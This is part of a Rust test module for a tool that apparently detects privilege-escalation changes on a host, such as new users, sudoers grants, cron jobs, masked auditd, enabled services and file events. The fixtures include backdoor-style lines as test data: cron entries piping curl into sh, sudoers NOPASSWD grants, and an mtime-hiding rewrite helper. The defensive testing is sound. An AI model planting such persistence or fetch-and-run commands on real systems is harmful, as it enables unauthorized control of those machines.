        Redactor::new(&crate::events::redact::RedactionConfig::default()).unwrap()
    }

    fn write(root: &Path, rel: &str, text: &str) {
        let p = root.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, text).unwrap();
    }

    fn machine() -> tempfile::TempDir {
        let d = tempfile::tempdir().unwrap();
        write(
            d.path(),
            "etc/passwd",
            "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n",
        );
        write(
            d.path(),
            "etc/group",
            "root:x:0:\nsudo:x:27:alice\nalice:x:1000:\n",
        );
        write(
            d.path(),
            "etc/shadow",
            "root:*:1::::::\nalice:$y$old:1::::::\n",
        );
        write(
            d.path(),
            "etc/sudoers",
            "root ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n",
        );
        write(
            d.path(),
            "etc/crontab",
            "# m h dom mon dow user command\n17 * * * * root run-parts /etc/cron.hourly\n",
        );
        write(
            d.path(),
            "etc/systemd/system/multi-user.target.wants/.keep",
            "",
        );
        write(
            d.path(),
            "var/log/dpkg.log",
            "2026-12-01 10:00:00 status installed base-files:amd64 12.4\n",
        );
        d
    }

    fn described(changes: &[Change]) -> Vec<String> {
        changes
            .iter()
            .map(|c| {
                format!(
                    "{} {} {}{}",
                    c.area,
                    c.action,
                    c.subject,
                    c.detail
                        .as_deref()
                        .map(|d| format!(" ({d})"))
                        .unwrap_or_default()
                )
            })
            .collect()
    }

    #[test]
    fn what_an_elevation_changes_is_listed_and_nothing_else() {
        let m = machine();
        let root = m.path();
        let before = Snapshot::take(root);
        assert!(diff(&before, &Snapshot::take(root), &redactor()).is_empty());
        write(
            root,
            "etc/passwd",
            "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/zsh\neve:x:1001:1001::/home/eve:/bin/bash\n",
        );
        write(
            root,
            "etc/group",
            "root:x:0:\nsudo:x:27:alice,eve\nalice:x:1000:\neve:x:1001:\n",
        );
        write(
            root,
            "etc/shadow",
            "root:*:1::::::\nalice:$y$new:1::::::\neve:!:1::::::\n",
        );
        write(root, "etc/sudoers.d/eve", "eve ALL=(ALL) NOPASSWD: ALL\n");
        write(
            root,
            "etc/cron.d/backdoor",
            "* * * * * root curl -H 'Authorization: Bearer s3cr3tt0ken' http://x | sh\n",
        );
        std::os::unix::fs::symlink(
            "/etc/systemd/system/evil.service",
            root.join("etc/systemd/system/multi-user.target.wants/evil.service"),
        )
        .unwrap();
        write(
            root,
            "etc/systemd/system/evil.service",
            "[Service]\nExecStart=/bin/sh\n",
        );
        std::os::unix::fs::symlink("/dev/null", root.join("etc/systemd/system/auditd.service"))
            .unwrap();
        let got = described(&diff(&before, &Snapshot::take(root), &redactor()));
        let want = [
            "accounts user_changed alice (shell /bin/bash -> /bin/zsh)",
            "accounts user_added eve (uid 1001, group 1001, home /home/eve, shell /bin/bash)",
            "accounts group_added eve (gid 1001)",
            "accounts member_added eve (group sudo)",
            "accounts password_changed alice",
            "sudo file_added /etc/sudoers.d/eve",
            "sudo line_added /etc/sudoers.d/eve (eve ALL=(ALL) NOPASSWD: ALL)",
            "cron file_added /etc/cron.d/backdoor",
            "services unit_masked auditd.service",
            "services unit_created /etc/systemd/system/evil.service",
            "services unit_enabled evil.service (wanted by multi-user.target)",
        ];
        for w in want {
            assert!(got.iter().any(|g| g == w), "missing {w:?} in {got:#?}");
        }
        let cron = got
            .iter()
            .find(|g| g.starts_with("cron entry_added /etc/cron.d/backdoor"))
            .expect("the cron entry");
        assert!(
            !cron.contains("s3cr3tt0ken"),
            "the cron line is redacted: {cron}"
        );
        assert!(cron.contains("curl"), "{cron}");
        // The shadow file's password fields are never written, only that one changed.
        assert!(!got.iter().any(|g| g.contains("$y$")), "{got:#?}");
        assert_eq!(got.len(), want.len() + 1, "{got:#?}");
    }

    /// Rewrites `rel` under `root` with `text` until its change time has moved from what it
    /// was (a write within the same tick of the kernel's coarse clock keeps it), then puts its
    /// modification time back, as an admin hiding a change would.
    fn rewrite_keeping_mtime(root: &Path, rel: &str, text: &str) {
        let p = root.join(rel);
        let old = std::fs::metadata(&p).unwrap();
        loop {
            std::fs::write(&p, text).unwrap();
            let now = std::fs::metadata(&p).unwrap();
            use std::os::unix::fs::MetadataExt;
            if (now.ctime(), now.ctime_nsec()) != (old.ctime(), old.ctime_nsec()) {
                break;
            }
            std::thread::yield_now();
        }
        std::fs::File::options()
            .write(true)
            .open(&p)
            .unwrap()
            .set_modified(old.modified().unwrap())
            .unwrap();
    }

    #[test]
    fn a_change_the_full_read_finds_always_moves_a_stamp() {
        type Change = Box<dyn Fn(&Path)>;
        let changes: Vec<(&str, Change)> = vec![
            (
                "passwd rewritten at the same length, old mtime",
                Box::new(|r| {
                    rewrite_keeping_mtime(
                        r,
                        "etc/passwd",
                        "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/dash\n",
                    )
                }),
            ),
            (
                "shadow password changed",
                Box::new(|r| write(r, "etc/shadow", "root:*:1::::::\nalice:$y$new:1::::::\n")),
            ),
            (
                "file added to sudoers.d",
                Box::new(|r| write(r, "etc/sudoers.d/eve", "eve ALL=(ALL) ALL\n")),
            ),
            (
                "included file changed outside /etc",
                Box::new(|r| write(r, "opt/grants/mallory", "mallory ALL=(ALL) NOPASSWD: ALL\n")),
            ),
            (
                "target of a sudoers.d link changed",
                Box::new(|r| write(r, "opt/linked", "eve ALL=(ALL) NOPASSWD: ALL\n")),
            ),
            (
                "user crontab appended",
                Box::new(|r| {
                    use std::io::Write;
                    std::fs::OpenOptions::new()
                        .append(true)
                        .open(r.join("var/spool/cron/crontabs/root"))
                        .unwrap()
                        .write_all(b"* * * * * curl x | sh\n")
                        .unwrap();
                }),
            ),
            (
                "enablement link re-pointed",
                Box::new(|r| {
                    let l = r.join("etc/systemd/system/multi-user.target.wants/x.service");
                    std::fs::remove_file(&l).unwrap();
                    std::os::unix::fs::symlink("/opt/evil.service", &l).unwrap();
                }),
            ),
            (
                "unit file rewritten at the same length, old mtime",
                Box::new(|r| {
                    rewrite_keeping_mtime(
                        r,
                        "etc/systemd/system/y.service",
                        "[Service]\nExecStart=/bin/fals\n",
                    )
                }),
            ),
        ];
        for (what, change) in changes {
            let m = machine();
            let root = m.path();
            write(
                root,
                "etc/sudoers",
                "root ALL=(ALL:ALL) ALL\n@includedir /opt/grants\n",
            );
            write(root, "opt/grants/mallory", "mallory ALL=(ALL) ALL\n");
            write(root, "opt/linked", "eve ALL=(ALL) ALL\n");
            std::fs::create_dir_all(root.join("etc/sudoers.d")).unwrap();
            std::os::unix::fs::symlink(root.join("opt/linked"), root.join("etc/sudoers.d/l"))
                .unwrap();
            write(root, "var/spool/cron/crontabs/root", "0 * * * * true\n");
            write(
                root,
                "etc/systemd/system/y.service",
                "[Service]\nExecStart=/bin/false\n",
            );
            std::fs::create_dir_all(root.join("etc/systemd/system/multi-user.target.wants"))
                .unwrap();
            std::os::unix::fs::symlink(
                "/etc/systemd/system/y.service",
                root.join("etc/systemd/system/multi-user.target.wants/x.service"),
            )
            .unwrap();
            let (before, inputs) = Snapshot::take_noting(root);
            assert!(
                inputs.unchanged(),
                "{what}: stamps moved with nothing changed"
            );
            change(root);
            assert!(
                !diff(&before, &Snapshot::take(root), &redactor()).is_empty(),
                "{what}: the full read finds nothing (the case tests nothing)"
            );
            assert!(
                !inputs.unchanged(),
                "{what}: no stamp moved, so a round would miss it"
            );
        }
    }

    #[test]
    fn sudoers_includes_are_followed_and_links_say_where_not_what() {
        let m = machine();
        let root = m.path();
        let before = Snapshot::take(root);
        // An include directive looks like a comment and is not one; the file it names, and
        // what a directory it names holds, grant as much as sudoers.d does.
        write(
            root,
            "etc/sudoers",
            "root ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n#include /etc/sudo.local\n@includedir /opt/grants\n#includes are comments\n",
        );
        write(root, "etc/sudo.local", "eve ALL=(ALL) NOPASSWD: ALL\n");
        write(root, "opt/grants/mallory", "mallory ALL=(ALL) ALL\n");
        write(root, "etc/shadow", "root:$y$secret:1::::::\n");
        // A link in sudoers.d to the shadow file: said, its content not copied.
        std::fs::create_dir_all(root.join("etc/sudoers.d")).unwrap();
        std::os::unix::fs::symlink(root.join("etc/shadow"), root.join("etc/sudoers.d/x")).unwrap();
        // A hard link too: another name of a file is not read as this one.
        std::fs::hard_link(root.join("etc/shadow"), root.join("etc/sudoers.d/y")).unwrap();
        let got = described(&diff(&before, &Snapshot::take(root), &redactor()));
        for w in [
            "sudo line_added /etc/sudoers (#include /etc/sudo.local)",
            "sudo line_added /etc/sudoers (@includedir /opt/grants)",
            "sudo file_added /etc/sudo.local",
            "sudo line_added /etc/sudo.local (eve ALL=(ALL) NOPASSWD: ALL)",
            "sudo line_added /opt/grants/mallory (mallory ALL=(ALL) ALL)",
        ] {
            assert!(got.iter().any(|g| g == w), "missing {w:?} in {got:#?}");
        }
        assert!(
            got.iter()
                .any(|g| g.starts_with("sudo file_changed /etc/sudoers.d/x (-> ")),
            "{got:#?}"
        );
        assert!(
            got.iter()
                .any(|g| g.starts_with("sudo file_changed /etc/sudoers.d/y (")),
            "{got:#?}"
        );
        assert!(!got.iter().any(|g| g.contains("$y$")), "{got:#?}");
        assert!(!got.iter().any(|g| g.contains("#includes")), "{got:#?}");
    }

    #[test]
    fn a_fifo_where_a_file_belongs_does_not_hang_the_snapshot() {
        let m = machine();
        let passwd = m.path().join("etc/passwd");
        std::fs::remove_file(&passwd).unwrap();
        rustix::fs::mkfifoat(
            rustix::fs::CWD,
            &passwd,
            rustix::fs::Mode::from_raw_mode(0o600),
        )
        .unwrap();
        let (tx, rx) = std::sync::mpsc::channel();
        let root = m.path().to_owned();
        std::thread::spawn(move || {
            let _ = tx.send(Snapshot::take(&root));
        });
        let s = rx
            .recv_timeout(std::time::Duration::from_secs(10))
            .expect("the snapshot returns");
        assert!(s.users.is_empty());
        assert!(!s.groups.is_empty());
    }

    #[test]
    fn packages_come_from_dpkgs_log() {
        let log = "2026-12-02 18:20:01 startup archives unpack\n\
                   2026-12-02 18:20:01 install hello:amd64 <none> 2.10-3\n\
                   2026-12-02 18:20:02 status half-installed hello:amd64 2.10-3\n\
                   2026-12-02 18:20:02 status installed hello:amd64 2.10-3\n\
                   2026-12-02 18:21:00 status config-files nano:amd64 7.2-1\n\
                   2026-12-02 18:21:00 status not-installed nano:amd64 <none>\n";
        let got = described(&dpkg_changes(log));
        assert_eq!(
            got,
            [
                "packages installed hello:amd64 (version 2.10-3)",
                "packages removed nano:amd64 (version 7.2-1, configuration kept)",
                "packages removed nano:amd64",
            ]
        );
    }

    #[test]
    fn the_dpkg_log_is_read_in_whole_lines_from_where_it_ended() {
        let m = machine();
        let log = m.path().join("var/log/dpkg.log");
        let end = std::fs::metadata(&log).unwrap().len();
        let mut f = std::fs::OpenOptions::new().append(true).open(&log).unwrap();
        std::io::Write::write_all(
            &mut f,
            b"2026-12-02 18:20:02 status installed hello:amd64 2.10-3\n2026-12-02 18:2",
        )
        .unwrap();
        let (text, next) = read_log_from(&log, end);
        assert_eq!(dpkg_changes(&text).len(), 1);
        let (rest, again) = read_log_from(&log, next);
        assert!(rest.is_empty());
        assert_eq!(again, next);
    }

    #[test]
    fn files_are_reported_by_inotify_within_the_trees() {
        let m = machine();
        let root = m.path();
        write(root, "root/.ssh/authorized_keys", "ssh-ed25519 AAAA old\n");
        write(root, "root/deep/er/still/file", "x");
        let mut t = Trees::open(root, &[("etc".into(), 8), ("root".into(), 2)]).unwrap();
        write(root, "etc/hosts", "127.0.0.1 evil\n");
        write(root, "root/.ssh/authorized_keys", "ssh-ed25519 AAAA new\n");
        write(root, "root/deep/er/still/file", "y");
        std::fs::set_permissions(
            root.join("etc/hosts"),
            std::os::unix::fs::PermissionsExt::from_mode(0o4755),
        )
        .unwrap();
        let got = described(&t.drain(root));
        let tmp = root.display().to_string();
        let got: Vec<String> = got.iter().map(|g| g.replace(&tmp, "")).collect();
        assert!(
            got.contains(&"files created /etc/hosts".to_owned()),
            "{got:#?}"
        );
        assert!(
            got.contains(&"files modified /etc/hosts".to_owned()),
            "{got:#?}"
        );
        assert!(
            got.contains(&"files modified /root/.ssh/authorized_keys".to_owned()),
            "{got:#?}"
        );
        assert!(
            got.iter()
                .any(|g| g.starts_with("files attributes /etc/hosts (mode 4755")),
            "{got:#?}"
        );
        assert!(
            !got.iter().any(|g| g.contains("/root/deep/er/still")),
            "past the depth bound: {got:#?}"
        );
    }
}
